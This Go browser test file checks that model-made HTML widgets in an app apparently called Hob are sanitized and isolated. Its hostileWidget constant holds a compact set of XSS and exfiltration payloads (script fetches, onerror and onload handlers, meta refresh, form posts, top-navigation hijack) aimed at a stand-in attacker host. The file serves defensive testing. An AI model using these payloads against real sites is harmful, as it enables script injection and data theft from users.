package page

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostileWidget contains what a widget must not be able to do. HOST is the address of an attacker.
const hostileWidget = `<h1>Canvas heading 4711 <a href="http://HOST/link">press me, press me, press me</a></h1>
<script>fetch("http://HOST/fetch"); navigator.sendBeacon("http://HOST/beacon"); parent.postMessage("pwned", "*"); top.location = "http://HOST/top"; document.title = "pwned";</script>
<script src="http://HOST/script"></script><img src="http://HOST/img" onerror="parent.postMessage('onerror', '*')"><img src=x onerror="parent.postMessage('onerror', '*')">
<style>body { background: url(http://HOST/css); } @import url(http://HOST/import);</style><p style="background: url(http://HOST/style)">styled</p>
<meta http-equiv="refresh" content="0;url=http://HOST/refresh"><base href="http://HOST/"><link rel="stylesheet" href="http://HOST/sheet"><link rel="prefetch" href="http://HOST/prefetch">
<form action="http://HOST/form" method="get"><input name="q" value="secret"><button>Send</button></form><a href="javascript:parent.postMessage('javascript', '*')">x</a>
<iframe src="http://HOST/frame"></iframe><iframe srcdoc="<script>parent.parent.postMessage('srcdoc', '*')</script>"></iframe><object data="http://HOST/object"></object><embed src="http://HOST/embed">
<svg onload="parent.postMessage('svg', '*')"><image href="http://HOST/image"/><script>parent.postMessage("svg", "*")</script></svg><video src="http://HOST/video" autoplay></video>
<body onload="parent.postMessage('body', '*')"><details open ontoggle="parent.postMessage('toggle', '*')"><summary>s</summary></details><input autofocus onfocus="parent.postMessage('focus', '*')">`

// widgetFrame is an expression for the frame of a widget.
func widgetFrame(title string) string {
	return fmt.Sprintf(`document.querySelector('iframe[title="Widget made by Hob: %s"]')`, title)
}

// pushWidget shows a widget as a model does: with the tool, through the guard.
func (h *daemonFixture) pushWidget(args map[string]any) {
	h.t.Helper()
	var made struct{ Error string }
	h.postJSON("/api/v1/tools/canvas_push", map[string]any{"arguments": args}, &made)
	if made.Error != "" {
		h.t.Fatal(made.Error)
	}
}

func testWidgets(t *testing.T, b *browser) {
	h := openDaemon(t, offline)
	h.pushWidget(map[string]any{"title": "Board", "content": "# Canvas heading 4711\n\n<script>window.pwned=1</script>\n\n| a | b |\n|---|---|\n| 1 | 2 |"})
	h.pushWidget(map[string]any{"title": "Trips", "content_type": "bar", "content": "month,walks,rides\nJanuary,10,4\nFebruary,30,12\nMarch,25,8"})
	h.pushWidget(map[string]any{"title": "Hostile", "content_type": "html", "content": hostileWidget})
	w := b.openWindow(t)
	w.logIn(h)
	w.visitPage(h, "/today")
	for _, title := range []string{"Board", "Trips", "Hostile"} {
		w.waitUntil(widgetFrame(title))
	}
	// The document of a frame, as the browser got it.
	content := func(title, expression string) string {
		t.Helper()
		getValue[bool](w, fmt.Sprintf(`(window.seen = "", fetch(%s.src).then(r => r.text()).then(t => { const d = new DOMParser().parseFromString(t.replace(/<style.*?<\/style>/s, ""), "text/html"); window.seen = String(%s); }), true)`, widgetFrame(title), expression))
		w.waitUntil(`window.seen`)
		return getValue[string](w, `window.seen`)
	}
	if s := content("Board", `d.querySelector("h1").textContent + "; " + d.querySelectorAll("td").length + "; " + d.querySelectorAll("script").length + "; " + d.body.textContent.includes("<script>")`); s != "Canvas heading 4711; 2; 0; true" {
		t.Errorf("the text is drawn as %q", s)
	}
	if s := content("Trips", `d.querySelectorAll("svg[role=img] rect").length + "; " + d.querySelectorAll("table tbody tr").length`); s != "6; 3" {
		t.Errorf("the chart has the bars and rows %q", s)
	}
	const active = `Array.from(d.body.querySelectorAll("*")).flatMap(e => [e.tagName, ...e.getAttributeNames()]).filter(x => ["SCRIPT", "A", "IMG", "STYLE", "META", "BASE", "LINK", "FORM", "INPUT", "BUTTON", "IFRAME", "OBJECT", "EMBED", "SVG", "VIDEO", "href", "src", "style", "action"].includes(x) || x.startsWith("on")).join(" ") + "|" + d.body.innerText.trim().slice(0, 20)`
	if s := content("Hostile", active); s != "|Canvas heading 4711 " {
		t.Errorf("the hostile widget contains %q", s)
	}
	w.savePicture("widgets")

	// Pinned widgets come first and stay. Widgets are changed and removed in place.
	w.runSteps(chromedp.Evaluate[chromedp.Void](`document.querySelector('[aria-label="Pin: Trips"]').click()`))
	w.waitUntil(`document.querySelector('[aria-label="Unpin: Trips"]') && document.querySelector("main iframe").title.endsWith("Trips")`)
	if !getValue[bool](w, `!!document.querySelector('[aria-label="Unpin: Trips"]').closest(".stack").querySelector("#tasks")`) {
		t.Error("a single pinned widget is not above the tasks, so half of its row is empty")
	}
	before := getValue[string](w, widgetFrame("Board")+".src")
	h.pushWidget(map[string]any{"title": "Board", "content": "changed"})
	w.waitUntil(fmt.Sprintf(`%s.src !== %q`, widgetFrame("Board"), before))
	var made any
	h.postJSON("/api/v1/tools/canvas_reset", map[string]any{"arguments": map[string]any{}}, &made)
	w.waitUntil(`document.querySelectorAll("main iframe").length === 1`)
	w.runSteps(chromedp.Evaluate[chromedp.Void](`document.querySelector('[aria-label="Remove: Trips"]').click()`))
	w.waitUntil(`document.querySelectorAll("main iframe").length === 0 && document.querySelector(".flash")`)
	h.postJSON("/api/v1/tools/undo", map[string]any{"arguments": map[string]any{}}, &made)
	w.waitUntil(widgetFrame("Trips"))
}

// A widget cannot reach anything even if the sanitizer fails: a proxy replaces the document in the
// frame, with the headers that Hob sent.
func testWidgetIsolation(t *testing.T, b *browser) {
	var mu sync.Mutex
	var reached []string
	var served int
	raw := ""
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if r.URL.Path == "/control" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, raw)
			return
		}
		reached = append(reached, r.URL.Path)
	}))
	defer attacker.Close()
	raw = "<!doctype html>" + strings.ReplaceAll(hostileWidget, "HOST", strings.TrimPrefix(attacker.URL, "http://"))
	takeReached := func() []string {
		mu.Lock()
		defer mu.Unlock()
		was := reached
		reached = nil
		return was
	}
	// Without Hob's headers, the document does what it is made for.
	control := b.openWindow(t)
	control.runSteps(chromedp.Navigate(attacker.URL + "/control"))
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for len(takeReached()) == 0 {
		<-tick.C
	}
	control.runSteps(chromedp.Navigate("about:blank"))
	control.takeComplaints()
	takeReached()

	h := openDaemon(t, offline)
	h.pushWidget(map[string]any{"title": "Board", "content": "# Hello"})
	home, err := url.Parse(h.url)
	failOnError(t, err)
	proxy := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(home) // including the Host header
		},
		ModifyResponse: func(res *http.Response) error {
			if res.Request.URL.Path == "/today/widget" {
				mu.Lock()
				served++
				mu.Unlock()
				_ = res.Body.Close()
				res.Body, res.ContentLength = io.NopCloser(strings.NewReader(raw)), int64(len(raw))
				res.Header.Del("Content-Encoding")
				res.Header.Set("Content-Length", fmt.Sprint(len(raw)))
			}
			return nil
		},
	})
	defer func() {
		proxy.CloseClientConnections() // the live stream
		proxy.Close()
	}()
	w := b.openWindow(t)
	w.runSteps(chromedp.Navigate(proxy.URL + strings.TrimPrefix(h.loginLink(), h.url)))
	w.waitUntil(live)
	w.runSteps(chromedp.Navigate(proxy.URL + "/today"))
	w.waitUntil(live)
	w.waitUntil(widgetFrame("Board"))
	getValue[bool](w, fmt.Sprintf(`(f => (window.messages = [], addEventListener("message", e => messages.push(String(e.data))), f.loading = "eager", f.onload = () => { window.again = true; }, f.src += "&again", f.scrollIntoView(), true))(%s)`, widgetFrame("Board")))
	w.waitUntil(`window.again`)
	if getValue[bool](w, widgetFrame("Board")+`.contentDocument !== null`) {
		t.Error("the page can read the widget, so they have the same origin")
	}
	// The user presses the link of the widget, and moves through its controls.
	type point struct{ X, Y float64 }
	at := getValue[point](w, `(r => ({ X: r.left, Y: r.top }))(`+widgetFrame("Board")+`.getBoundingClientRect())`)
	for _, dx := range []float64{60, 200, 330} {
		w.runSteps(chromedp.MouseClickXY(at.X+dx, at.Y+40))
	}
	w.runSteps(chromedp.Evaluate[chromedp.Void](`new Promise(done => setTimeout(done, 1500))`))
	w.savePicture("hostile-widget")
	if got := getValue[[]string](w, `window.messages`); len(got) > 0 {
		t.Errorf("a script of the widget ran: %q", got)
	}
	if s := getValue[string](w, `location.pathname + " " + document.title`); s != "/today Today · Hob" {
		t.Errorf("the page is now %q", s)
	}
	if got := takeReached(); len(got) > 0 {
		t.Errorf("the widget reached the attacker: %q", got)
	}
	w.runSteps(chromedp.Navigate("about:blank"))
	w.takeComplaints() // the browser reports each thing that it blocked
	mu.Lock()
	defer mu.Unlock()
	if served < 2 {
		t.Errorf("the hostile document was shown %d times", served)
	}
}
